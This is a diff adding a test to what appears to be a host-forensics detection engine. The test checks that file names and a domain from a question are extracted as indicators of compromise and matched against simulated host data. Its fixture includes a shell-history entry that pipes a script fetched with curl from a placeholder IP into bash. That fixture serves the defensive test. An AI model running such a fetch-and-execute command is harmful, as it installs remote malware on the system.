@@ -264,3 +264,22 @@ test("suspicious-systemd-unit: a user's own unit with nothing else odd is info; 
   const implant = findings(run("suspicious-systemd-unit", unitAt("/home/jdoe/.config/systemd/user/ssh-agent.service", "/home/jdoe/.cache/.x/agent")));
   t.equal(implant[0]?.severity, undefined, "the detection's medium");
 });
+
+test("a bare file name in the question is an indicator: ioc-match finds it as a path's last component or a command's word", async (t) => {
+  const { routeQuery } = await import("../../shared/engine/index.js");
+  const plan = routeQuery("is libkeyutils.so.1.3.2 loaded anywhere? also check for pam_sso_cache.so and kinsing.sh", "standard");
+  // kinsing.sh is also a name under .sh (transfer.sh): it stays a domain, matched as one, not twice.
+  t.same(plan.entities.files, ["libkeyutils.so.1.3.2", "pam_sso_cache.so"]);
+  t.ok(plan.entities.domains.includes("kinsing.sh"));
+  t.ok(plan.detection_ids.includes("ioc-match"));
+  t.same(routeQuery("anything in /usr/lib/x86_64-linux-gnu/libkeyutils.so.1?", "standard").entities.files, [], "inside a path it is the path's");
+  t.same(routeQuery("is the SSH daemon's config changed?", "standard").entities.users, [], "the daemon's, not a user's");
+  const h = host({
+    processes: [proc(900, "sshd", "/usr/sbin/sshd")],
+    process_memory_map: [{ pid: "900", path: "/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2" }, { pid: "900", path: "/lib/x86_64-linux-gnu/libkeyutils.so.1.10" }],
+    shell_history: [{ uid: "0", command: "curl -s http://198.51.100.4/kinsing.sh | bash", history_file: "/root/.bash_history" }],
+  });
+  const hits = findings(byId.get("ioc-match")?.evaluate(h, { entities: plan.entities }) ?? []);
+  t.same(hits.map((x) => x.entity).sort(), ["domain:kinsing.sh", "file:libkeyutils.so.1.3.2"]);
+  t.equal(hits.find((x) => x.entity === "file:libkeyutils.so.1.3.2")?.severity, "low", "a named file is a place to look, as a named path");
+});
